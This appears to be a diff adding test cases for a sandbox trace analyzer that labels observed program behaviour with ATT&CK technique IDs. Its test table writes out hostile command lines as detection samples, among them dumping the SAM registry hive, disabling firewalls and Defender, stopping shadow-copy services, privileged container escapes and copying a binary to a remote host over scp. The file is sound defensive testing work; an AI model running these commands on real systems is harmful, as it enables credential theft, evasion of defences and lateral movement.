@@ -1,0 +1,152 @@
+// Techniques that a run shows beside its findings: each row with what shows it and with what does not.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { analyzeTrace } from '../../src/trace/analyze.ts'
+import { gatherTraceFacts } from '../../src/trace/facts.ts'
+import { behaviorResults } from '../../src/trace/results.ts'
+import type { SystemEvent } from '../../src/trace/system.ts'
+import { seenTechniques } from '../../src/trace/techniques/seen-techniques.ts'
+import type { Trace, TraceCall } from '../../src/trace/trace.ts'
+import { environment, file, gets, runs, sets, system, trace } from './empty-trace.ts'
+
+type Parts = readonly Partial<Trace>[]
+const of = (...parts: Parts): readonly string[] => [
+  ...new Set(seenTechniques(gatherTraceFacts([trace(...parts)])).map(({ id }) => id)),
+]
+const shows = (id: string, parts: Parts): void => assert.ok(of(...parts).includes(id), `${id}: ${of(...parts).join()}`)
+const lacks = (id: string, parts: Parts): void => assert.ok(!of(...parts).includes(id), `${id}: ${of(...parts).join()}`)
+
+const call = (api: string, ...given: TraceCall['arguments']): TraceCall => ({
+  api,
+  arguments: given,
+  pid: 1,
+  thread: 1,
+})
+const calls = (...all: readonly TraceCall[]): Partial<Trace> => ({ apiCalls: all })
+const asks = (about: Extract<SystemEvent, { kind: 'question' }>['about'], what: string): Partial<Trace> =>
+  system({ kind: 'question', about, what, pid: 1 })
+
+test('one question is told as what it is, and weighs nothing', () => {
+  shows('T1135', [asks('shares', 'NetShareEnum')])
+  shows('T1614.001', [asks('locale', 'GetUserDefaultUILanguage')])
+  shows('T1010', [asks('windows', 'GetWindowTextW')])
+  shows('T1613', [asks('containers', '/var/run/docker.sock')])
+  lacks('T1082', [asks('hardware', 'sysinfo')])
+  const report = analyzeTrace([trace(asks('locale', 'GetUserDefaultUILanguage'))], { path: 'x' })
+  assert.deepEqual(report.findings, [])
+  assert.equal(report.verdict, null)
+})
+
+test('commands by what they are for', () => {
+  const table: readonly (readonly [string, string])[] = [
+    ['T1033', 'whoami'],
+    ['T1135', 'net view \\\\filesrv'],
+    ['T1083', 'find / -name id_rsa'],
+    ['T1083', 'cmd /c dir C:\\Users /s /b'],
+    ['T1489', 'systemctl stop postgresql'],
+    ['T1489', "sh -c 'pkill -9 xmrig'"],
+    ['T1489', 'net stop vss /y'],
+    ['T1140', 'base64 -d /tmp/a'],
+    ['T1140', 'certutil.exe -decode a.txt a.dll'],
+    ['T1218.011', 'rundll32.exe C:\\Users\\Public\\a.dll,Start'],
+    ['T1003.002', 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv /y'],
+    ['T1560.001', 'tar -czf /tmp/a.tgz /home'],
+    ['T1562.004', 'netsh advfirewall set allprofiles state off'],
+    ['T1562.004', 'iptables -F'],
+    ['T1021.004', 'ssh -o BatchMode=yes -i /root/.ssh/id_rsa root@192.0.2.4 id'],
+    ['T1570', "sh -c 'for k in a b; do scp -i $k /proc/235/exe root@192.0.2.4:/tmp/.cr; done'"],
+    ['T1610', 'docker run --privileged -v /:/host alpine sh'],
+    ['T1611', "sh -c 'nsenter --target 1 --mount -- id'"],
+    ['T1105', 'curl -fsSL https://example.com/a -o a'],
+    ['T1070.006', 'touch -r /bin/sh /usr/sbin/a'],
+  ]
+  for (const [id, line] of table) shows(id, [runs(line)])
+  lacks('T1489', [runs('systemctl start postgresql')])
+  lacks('T1489', [runs('echo stop the service')])
+  lacks('T1140', [runs('base64 /tmp/a')])
+  lacks('T1570', [runs('scp report.pdf anna@192.0.2.4:/srv/reports')])
+  lacks('T1083', [runs('ls /root')])
+  lacks('T1003.002', [runs('reg query HKLM\\SAM')])
+  lacks('T1033', [runs('grep whoami notes.txt')])
+})
+
+test('a language is told by who runs it', () => {
+  shows('T1059.006', [runs('/usr/bin/python3 /root/a.py', { startedBy: 'sample' })])
+  shows('T1059.005', [environment({ script_language: 'vbscript' })])
+  shows('T1218.005', [
+    { environment: { name: 'HTML application host on Windows 10, emulated', fidelity: 'emulated', facts: {} } },
+  ])
+  lacks('T1059.006', [runs('/root/a.out', { startedBy: 'sample' })])
+})
+
+test('settings of the system by whoever sets them, and not those of a program or of the system itself', () => {
+  const set = (key: string, name: string, pid?: number): Partial<Trace> => ({
+    registry: [{ op: 'write', key, name, data: '1', ...(pid !== undefined && { pid }) }],
+  })
+  shows('T1112', [set('HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender', 'DisableAntiSpyware', 7)])
+  shows('T1547.001', [
+    set('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Startup', 7),
+  ])
+  lacks('T1547.001', [
+    set('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Personal', 7),
+  ])
+  lacks('T1112', [set('HKCU\\Software\\Ledgerline\\License', 'LastCheck', 7)])
+  lacks('T1112', [sets('HKLM\\Software\\Classes\\Interface\\{2CC5A9D1}', '')])
+})
+
+test('what is said over the network', () => {
+  shows('T1071.001', [gets('http://example.com/a')])
+  lacks('T1071.001', [gets('http://example.com/a', { via: 'navigation' })])
+  shows('T1613', [gets('http://172.17.0.1:2375/version', { via: 'socket' })])
+  lacks('T1613', [gets('http://172.17.0.1:8080/version', { via: 'socket' })])
+})
+
+test('folders that are gone through', () => {
+  shows('T1083', [file('list', 'C:\\Users\\anna\\Pictures\\*.jpg')])
+  shows('T1083', [file('list', '/srv/data/a'), file('list', '/srv/data/b')])
+  lacks('T1083', [file('list', '/srv/data')])
+  lacks('T1083', [file('list', '/usr/lib/python3.11'), file('list', '/usr/lib/python3.11/encodings')])
+})
+
+test('a pause between two looks at the clock, and not the turns of a loop', () => {
+  const tick = call('kernel32.GetTickCount')
+  shows('T1497.003', [calls(tick, call('kernel32.Sleep', 2500), tick)])
+  lacks('T1497.003', [calls(tick, call('kernel32.Sleep', 20), tick)])
+  lacks('T1497.003', [calls(tick, call('kernel32.Sleep', 2500), call('user32.PeekMessageA'), tick)])
+})
+
+test('code that is handed over by its address', () => {
+  const memory: Partial<Trace> = {
+    memory: [{ address: '0x1610000', sizeBytes: 4096, protection: 'r-x after rw-', pid: 1 }],
+  }
+  shows('T1620', [memory, calls(call('kernel32.EnumSystemLocalesA', 0x1610000, 0))])
+  lacks('T1620', [memory, calls(call('kernel32.VirtualProtect', 0x1610000, 4096, 32))])
+  lacks('T1620', [memory, calls(call('kernel32.EnumSystemLocalesA', 0x1710000, 0))])
+})
+
+test('a driver that was brought and is spoken to', () => {
+  const brings = [
+    file('write', 'C:\\Windows\\System32\\drivers\\rt32x.sys'),
+    system({ kind: 'service', op: 'create', what: 'rt', command: 'C:\\Windows\\System32\\drivers\\rt32x.sys' }),
+  ]
+  shows('T1068', [...brings, calls(call('kernel32.CreateFileA', '\\\\.\\RT32x', 3))])
+  lacks('T1068', [...brings, calls(call('kernel32.CreateFileA', '\\\\.\\pipe\\rt', 3))])
+  lacks('T1068', [calls(call('kernel32.CreateFileA', '\\\\.\\RT32x', 3))])
+})
+
+test('programs that were looked for and ended', () => {
+  const kill: SystemEvent = { kind: 'kill_process', what: 'SIGKILL 1643', pid: 1, succeeded: true }
+  shows('T1489', [asks('processes', '/proc/1643/cmdline'), system(kill)])
+  lacks('T1489', [asks('processes', '/proc/1642/cmdline'), system(kill)])
+})
+
+test('the report tells each with what shows it', () => {
+  const { behavior } = behaviorResults(analyzeTrace([trace(asks('shares', 'NetShareEnum'))], { path: 'x' }), 'x')
+  const { techniques } = behavior as {
+    readonly techniques: readonly { readonly attack_id: string; readonly seen: unknown }[]
+  }
+  assert.deepEqual(
+    techniques.map(({ attack_id, seen }) => [attack_id, seen]),
+    [['T1135', ['NetShareEnum']]],
+  )
+})
